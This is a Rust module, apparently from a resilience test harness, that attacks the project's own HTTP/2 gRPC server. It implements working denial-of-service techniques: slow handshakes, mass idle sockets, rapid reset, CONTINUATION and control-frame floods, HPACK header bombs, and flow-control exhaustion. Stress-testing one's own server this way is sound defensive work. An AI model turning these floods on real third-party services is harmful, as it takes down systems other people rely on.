//! What attackers do before and below calls: sockets, handshakes, frames.

use std::io::{self, Read as _, Write as _};
use std::net::TcpStream;
use std::sync::Arc;
use std::thread::sleep;
use std::time::Duration;

use resguardo::host::clock::{Clock as _, SystemClock};
use rustls::pki_types::ServerName;
use rustls::{ClientConfig, ClientConnection};

use crate::attacker::{Attacker, Line};
use crate::frames::{self, END_HEADERS, END_STREAM, PAYLOAD_BYTES_MAX, frame};

/// Sockets in all of the attack with very many.
const SOCKETS: usize = 10_000;
/// Handshakes at once of a slow stranger: more than the hub takes.
const SLOW: usize = 400;
/// A call that is there.
const PUBLISH: &str = "/resguardo.v1.ExchangeService/Publish";
const PUBLISH_STREAM: &str = "/resguardo.v1.ExchangeService/PublishStream";
/// The largest number of a stream that is used on one line.
const STREAM_MAX: u32 = 0x7fff_fff0;

/// How a client of this kind begins: bytes that the hub takes for a whole hello.
fn hello(attacker: &Attacker) -> Vec<u8> {
    let name = ServerName::try_from("localhost").expect("a name");
    let mut tls = ClientConnection::new(Arc::clone(&attacker.tls), name).expect("a client");
    let mut bytes = Vec::new();
    tls.write_tls(&mut bytes).expect("memory takes it");
    bytes
}

/// Whether the other side has closed.
fn ended(socket: &mut TcpStream) -> bool {
    let mut piece = [0; 4_096];
    match socket.read(&mut piece) {
        Ok(0) => true,
        Ok(_) => false,
        Err(error) => error.kind() != io::ErrorKind::WouldBlock,
    }
}

/// Handshakes of which a byte comes each second.
pub(crate) fn slow_handshakes(attacker: &mut Attacker) {
    let hello = hello(attacker);
    let clock = SystemClock::new();
    let mut open: Vec<(TcpStream, usize, u64)> = Vec::new();
    while attacker.goes_on(0) {
        let now = clock.monotonic_us();
        open.retain_mut(|(socket, at, next)| {
            if *next > now {
                return true;
            }
            *next = now + 1_000_000;
            *at += 1;
            !ended(socket) && socket.write_all(&hello[*at - 1..*at]).is_ok()
        });
        if open.len() < SLOW
            && let Ok(socket) = attacker.socket()
        {
            attacker.goes_on(1);
            open.push((socket, 0, now));
        }
        sleep(Duration::from_micros(200));
    }
}

/// Sockets that say nothing.
pub(crate) fn sockets(attacker: &mut Attacker) {
    let (mut open, mut at) = (Vec::new(), 0);
    while attacker.goes_on(0) {
        if open.len() < SOCKETS {
            let Ok(socket) = attacker.socket() else { continue };
            open.push(socket);
            attacker.goes_on(1);
            continue;
        }
        // Those that were closed come anew.
        at = (at + 1) % SOCKETS;
        if ended(&mut open[at]) {
            let Ok(socket) = attacker.socket() else { continue };
            open[at] = socket;
            attacker.goes_on(1);
        }
    }
}

/// One recorded hello again and again: the hub works, the stranger does not.
pub(crate) fn hellos(attacker: &mut Attacker) {
    let hello = hello(attacker);
    let mut open = std::collections::VecDeque::new();
    while attacker.goes_on(0) {
        let Ok(mut socket) = attacker.socket() else { continue };
        if socket.write_all(&hello).is_ok() {
            attacker.goes_on(1);
            open.push_back(socket);
        }
        if open.len() > 100 {
            open.pop_front();
        }
    }
}

/// Handshakes at once of one that makes them as fast as it can.
const HANDSHAKES: usize = 32;

/// Whole handshakes, each line left when it stands.
pub(crate) fn handshakes(attacker: &mut Attacker) {
    shake(attacker, 0);
}

/// Lines that are opened and held, as many as one can.
pub(crate) fn lines(attacker: &mut Attacker) {
    shake(attacker, SOCKETS);
}

fn shake(attacker: &mut Attacker, held_max: usize) {
    let (mut begun, mut held, mut at): (Vec<Line>, Vec<Line>, usize) = (Vec::new(), Vec::new(), 0);
    while attacker.goes_on(0) {
        if begun.len() < HANDSHAKES
            && let Ok(line) = attacker.begin(&frames::preface())
        {
            begun.push(line);
        }
        let mut stand = 0;
        let mut index = 0;
        while index < begun.len() {
            let ended = begun[index].pump().is_err();
            if !ended && !begun[index].stands() {
                index += 1;
                continue;
            }
            let line = begun.swap_remove(index);
            stand += u64::from(!ended);
            if !ended && held.len() < held_max {
                held.push(line);
            }
        }
        if !held.is_empty() {
            at = (at + 1) % held.len();
            if held[at].pump().is_err() {
                held.swap_remove(at);
            }
        }
        attacker.goes_on(stand);
        if stand == 0 {
            sleep(Duration::from_micros(200));
        }
    }
}

/// Sends what is made for each number of a stream, on `lines` lines by turns, and comes again where it is sent away.
fn flood(attacker: &mut Attacker, lines: usize, step: u32, mut make: impl FnMut(&mut Vec<u8>, u32)) {
    let mut open: Vec<(Line, u32)> = Vec::new();
    while attacker.goes_on(0) {
        if open.len() < lines {
            match attacker.line(&frames::preface()) {
                Ok(line) => open.push((line, 1)),
                Err(_) => sleep(Duration::from_millis(1)),
            }
        }
        let mut count = 0;
        open.retain_mut(|(line, stream)| {
            let mut bytes = Vec::new();
            while bytes.len() < PAYLOAD_BYTES_MAX {
                make(&mut bytes, *stream);
                *stream += step;
                count += 1;
            }
            line.came.clear();
            line.push(attacker, &bytes).is_ok() && *stream < STREAM_MAX
        });
        attacker.goes_on(count);
    }
}

/// Lines on which floods come at once.
const LINES: usize = 4;

/// Calls that are taken back at once.
pub(crate) fn rapid_reset(attacker: &mut Attacker) {
    let call = frames::call(PUBLISH);
    flood(attacker, LINES, 2, |bytes, stream| {
        frame(bytes, frames::HEADERS, END_HEADERS, stream, &call);
        frame(bytes, frames::RST_STREAM, 0, stream, &8_u32.to_be_bytes());
    });
}

/// Calls that the hub has to take back, for what follows on them is wrong.
pub(crate) fn made_to_reset(attacker: &mut Attacker) {
    let call = frames::call(PUBLISH);
    flood(attacker, LINES, 2, |bytes, stream| {
        frame(bytes, frames::HEADERS, END_HEADERS, stream, &call);
        frame(bytes, frames::WINDOW_UPDATE, 0, stream, &0_u32.to_be_bytes());
    });
}

/// Headers that go on and never end.
pub(crate) fn continuations(attacker: &mut Attacker) {
    let call = frames::call(PUBLISH);
    let mut more = Vec::new();
    frames::literal(&mut more, "x", &"y".repeat(1_000));
    flood(attacker, LINES, 1, |bytes, at| {
        if at == 1 {
            frame(bytes, frames::HEADERS, 0, 1, &call);
        }
        frame(bytes, frames::CONTINUATION, 0, 1, &more);
    });
}

/// Pings.
pub(crate) fn pings(attacker: &mut Attacker) {
    flood(attacker, LINES, 0, |bytes, _| frame(bytes, frames::PING, 0, 0, &[7; 8]));
}

/// Settings.
pub(crate) fn settings(attacker: &mut Attacker) {
    flood(attacker, LINES, 0, |bytes, _| frame(bytes, frames::SETTINGS, 0, 0, &[0, 1, 0, 0, 16, 0]));
}

/// Priorities of streams that are not there.
pub(crate) fn priorities(attacker: &mut Attacker) {
    flood(attacker, LINES, 0, |bytes, _| frame(bytes, frames::PRIORITY, 0, 3, &[0, 0, 0, 0, 7]));
}

/// Windows, each a byte larger.
pub(crate) fn windows(attacker: &mut Attacker) {
    flood(attacker, LINES, 0, |bytes, _| frame(bytes, frames::WINDOW_UPDATE, 0, 0, &1_u32.to_be_bytes()));
}

/// Data without a byte, on a call.
pub(crate) fn empty_data(attacker: &mut Attacker) {
    let call = frames::call(PUBLISH_STREAM);
    flood(attacker, LINES, 1, |bytes, at| {
        if at == 1 {
            frame(bytes, frames::HEADERS, END_HEADERS, 1, &call);
        }
        frame(bytes, frames::DATA, 0, 1, &[]);
    });
}

/// Headers that are small on the line and large when they are read.
pub(crate) fn header_bomb(attacker: &mut Attacker) {
    let bomb = frames::bomb(PUBLISH, 10_000);
    flood(attacker, LINES, 2, |bytes, stream| {
        frame(bytes, frames::HEADERS, END_HEADERS | END_STREAM, stream, &bomb);
    });
}

/// The same behind a call's data.
pub(crate) fn trailer_bomb(attacker: &mut Attacker) {
    let call = frames::call(PUBLISH_STREAM);
    let mut bomb = vec![0x40, 1, b'x', 127, 0xb8, 0x1d];
    bomb.extend([b'y'; 3_895]);
    bomb.extend(std::iter::repeat_n(0xbe, 10_000));
    flood(attacker, LINES, 2, |bytes, stream| {
        frame(bytes, frames::HEADERS, END_HEADERS, stream, &call);
        frame(bytes, frames::HEADERS, END_HEADERS | END_STREAM, stream, &bomb);
    });
}

/// Messages of 2 GiB, by what stands before them.
pub(crate) fn huge_messages(attacker: &mut Attacker) {
    let call = frames::call(PUBLISH);
    flood(attacker, LINES, 2, |bytes, stream| {
        frame(bytes, frames::HEADERS, END_HEADERS, stream, &call);
        frame(bytes, frames::DATA, 0, stream, &[0, 0x7f, 0xff, 0xff, 0xff, 1, 2, 3]);
    });
}

/// Calls that begin and say nothing more.
pub(crate) fn left_calls(attacker: &mut Attacker) {
    let call = frames::call(PUBLISH);
    flood(attacker, 32, 2, |bytes, stream| frame(bytes, frames::HEADERS, END_HEADERS, stream, &call));
}

/// How many calls at once each line of the next makes, and on how many lines.
const BODIES: u32 = 64;
const BODY_LINES: usize = 90;
/// What may be sent of a call before the hub says more, as its settings have it, and on a line, as the standard has it.
const STREAM_WINDOW: u32 = 1024 * 1024;
const LINE_WINDOW: u32 = 65_535;
/// How large each says that it is: as large as is taken.
const BODY_BYTES: u32 = 4 * 1024 * 1024 - 16;

/// Messages as large as may be, all but the end of each, on as many calls as one may make.
pub(crate) fn endless_messages(attacker: &mut Attacker) {
    let call = frames::call(PUBLISH);
    let data = vec![7; PAYLOAD_BYTES_MAX];
    let mut open: Vec<(Line, Vec<u32>)> = Vec::new();
    while attacker.goes_on(0) {
        if open.len() < BODY_LINES {
            let mut bytes = frames::preface();
            for body in 0..BODIES {
                frame(&mut bytes, frames::HEADERS, END_HEADERS, body * 2 + 1, &call);
                let mut prefix = vec![0];
                prefix.extend(BODY_BYTES.to_be_bytes());
                frame(&mut bytes, frames::DATA, 0, body * 2 + 1, &prefix);
            }
            if let Ok(line) = attacker.line(&bytes) {
                let mut room = vec![STREAM_WINDOW - 5; 1 + BODIES as usize];
                room[0] = LINE_WINDOW - BODIES * 5;
                open.push((line, room));
            }
        }
        let mut sent = 0;
        open.retain_mut(|(line, room)| {
            if line.pump().is_err() {
                return false;
            }
            for (kind, _, stream, payload) in line.frames() {
                let at = if stream == 0 { 0 } else { stream as usize / 2 + 1 };
                let Some(room) = room.get_mut(at) else { continue };
                if kind == frames::WINDOW_UPDATE {
                    *room += u32::from_be_bytes([payload[0], payload[1], payload[2], payload[3]]);
                } else if kind != frames::SETTINGS && stream != 0 {
                    // It was turned down: nothing more goes there.
                    *room = 0;
                }
            }
            let mut bytes = Vec::new();
            let piece = u32::try_from(data.len()).expect("a frame");
            for body in 0..BODIES {
                let at = body as usize + 1;
                if room[0] >= piece && room[at] >= piece && bytes.len() < 1 << 18 {
                    room[0] -= piece;
                    room[at] -= piece;
                    frame(&mut bytes, frames::DATA, 0, body * 2 + 1, &data);
                }
            }
            sent += bytes.len() as u64;
            bytes.is_empty() || line.push(attacker, &bytes).is_ok()
        });
        attacker.goes_on(sent);
        if sent == 0 {
            sleep(Duration::from_millis(1));
        }
    }
}

/// Begins messages of so many bytes, a byte of each, and gives how many calls the hub answers before it is silent.
pub(crate) fn unfinished(address: String, tls: Arc<ClientConfig>, count: u32, bytes: u32) -> usize {
    let mut attacker = Attacker::new(address, tls, Arc::default());
    let mut first = frames::preface();
    for at in 0..count {
        frame(&mut first, frames::HEADERS, END_HEADERS, at * 2 + 1, &frames::call(PUBLISH));
        let mut begun = vec![0];
        begun.extend(bytes.to_be_bytes());
        begun.push(7);
        frame(&mut first, frames::DATA, 0, at * 2 + 1, &begun);
    }
    let mut line = attacker.line(&first).expect("the hub takes the line");
    let clock = SystemClock::new();
    let mut answered = 0;
    let mut last = clock.monotonic_us();
    while clock.monotonic_us() - last < 2_000_000 {
        line.pump().expect("the line stands");
        let more = line.frames().iter().filter(|(kind, ..)| *kind == frames::HEADERS).count();
        if more > 0 {
            (answered, last) = (answered + more, clock.monotonic_us());
        }
        sleep(Duration::from_millis(5));
    }
    answered
}
